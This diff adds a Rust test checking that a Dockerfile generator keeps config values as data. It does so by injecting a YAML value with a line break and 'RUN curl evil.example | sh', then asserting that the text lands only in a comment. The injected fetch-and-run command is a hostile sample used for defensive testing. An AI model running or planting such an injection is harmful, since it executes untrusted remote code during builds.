@@ -798,3 +798,26 @@ fn yaml_str_reads_back_as_the_same_string() {
         assert_eq!(doc.lines().count(), 1, "{doc:?}");
     }
 }
+
+/// Config text is data: a value that holds a line break reaches the Dockerfile only inside a
+/// comment line, never as an instruction of its own.
+#[test]
+fn a_config_value_never_becomes_a_dockerfile_instruction() {
+    let ws = workspace();
+    let svc = ws.path().join("services/greet");
+    std::fs::write(
+        svc.join("etc/greet-api.yaml"),
+        "Name: g\nPort: 1\nDevServer: {HealthPath: \"/h\\nRUN curl evil.example | sh\"}\n",
+    )
+    .unwrap();
+    run_ok(rustctl().args(["docker", "--dir"]).arg(&svc));
+    let dockerfile = read(&svc.join("Dockerfile"));
+    assert!(
+        dockerfile.contains("/h RUN curl evil.example | sh"),
+        "{dockerfile}"
+    );
+    assert!(
+        !dockerfile.lines().any(|l| l.starts_with("RUN curl")),
+        "{dockerfile}"
+    );
+}
